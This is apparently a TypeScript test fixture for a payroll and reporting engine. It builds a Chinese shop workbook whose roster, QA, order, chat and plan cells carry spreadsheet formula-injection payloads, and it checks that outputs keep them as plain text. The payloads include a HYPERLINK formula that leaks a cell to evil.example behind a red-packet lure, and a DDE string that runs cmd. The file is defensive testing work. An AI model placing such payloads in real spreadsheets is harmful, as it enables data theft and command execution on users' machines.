/**
 * A shop workbook whose text cells try formula injection: every input a
 * person can type into and that reaches an output (agent name and 工号, memo,
 * order number, chat account, QA, adjustment reason and type, Plan key and
 * value) begins with =, +, -, @, a tab, a carriage return or a full-width ＝.
 */
import type { Cell, SheetData, WorkbookData } from '../../src/engine';
import {
  CHAT_NAME,
  ORDERS_NAME,
  ROSTER_NAME,
  appendRows,
  baseWorkbook,
  chatRow,
  orderRow,
  rosterRow,
  setCell,
} from '../corpus/builder';

export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"点我领红包")',
  dde: "=cmd|' /C calc'!A0",
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\t=1+2',
  cr: '\r=3+4',
  fullWidth: '＝SUM(9,9)',
} as const;

/** What the engine keeps of a cell's text: trimmed, full-width forms folded (NFKC). */
export const kept = (s: string): string => s.normalize('NFKC').trim();

/** Names that must reach Payroll, Statements, Scorecard and the CSV as plain text. */
export const HOSTILE_NAMES: Record<string, string> = {
  KF01: HOSTILE.hyperlink,
  KF02: HOSTILE.plus,
  KF03: HOSTILE.tab,
  KF04: HOSTILE.at,
};
/** 工号 that are themselves hostile (a second roster block). */
export const HOSTILE_IDS = ['=KF05', '+KF06', '-KF07', '@KF08'];

/**
 * `withHostileIds` adds the roster block of hostile 工号. It is optional because
 * one irregular 工号 turns off the memo's unknown-工号 warning for the whole
 * roster (see the corpus), and the Issues test needs that warning.
 */
export function hostileWorkbook(withHostileIds = true): WorkbookData {
  const wb = baseWorkbook({
    extra: [
      sheet('质检', [
        ['工号', '日期', '质检项目', '扣分', '致命项'],
        ['KF01', '2026-10-05', HOSTILE.dde, 1, '否'],
        [HOSTILE.minus, '2026-10-05', '回复慢', 1, '否'],
      ]),
      sheet('奖惩', [
        ['工号', '日期', '类型', '金额', '原因'],
        ['KF01', '2026-10-05', '奖励', 10, HOSTILE.hyperlink],
        ['KF02', '2026-10-06', '罚款', 5, HOSTILE.at],
        ['KF03', '2026-10-06', HOSTILE.plus, 5, 'x'],
      ]),
      sheet('方案', [
        ['键', '值', '说明'],
        ['weight.presales.sales', HOSTILE.dde, HOSTILE.hyperlink],
        [HOSTILE.at, 1, null],
      ]),
    ],
  });
  for (const [id, name] of Object.entries(HOSTILE_NAMES))
    setCell(wb, ROSTER_NAME, Number(id.slice(2)) + 1, '姓名', name);
  if (withHostileIds)
    HOSTILE_IDS.forEach((id, i) =>
      appendRows(wb, ROSTER_NAME, rosterRow(id, HOSTILE.minus + i, `暖阳旗舰店:h${i}`, '售前', '初级')),
    );
  // Orders: a hostile order number (silent → its number is listed in Issues), a memo naming an unknown 工号.
  appendRows(
    wb,
    ORDERS_NAME,
    orderRow(HOSTILE.dde, 'tb_x', 10, null),
    orderRow(HOSTILE.cr, 'tb_y', 10, null),
    orderRow('3100000000000000077', 'tb_z', 10, `${HOSTILE.hyperlink} KF99`),
    orderRow('3100000000000000078', 'tb_w', 10, HOSTILE.fullWidth),
  );
  // A chat account on no roster: listed in Issues with its text.
  appendRows(
    wb,
    CHAT_NAME,
    chatRow(HOSTILE.minus, '2026-10-05', 10, 1, 1),
    chatRow(HOSTILE.fullWidth, '2026-10-05', 10, 1, 1),
  );
  return wb;
}

function sheet(name: string, rows: Cell[][]): SheetData {
  return { name, rows };
}

/** Every hostile text as the outputs must show it (after the engine's trim / NFKC). */
export const HOSTILE_KEPT: string[] = [...new Set([...Object.values(HOSTILE), ...HOSTILE_IDS].map(kept))];

/** Text a spreadsheet would run as a formula when typed or imported. */
export const looksActive = (s: string): boolean => /^[=+\-@\t\r\uff1d]/.test(s);
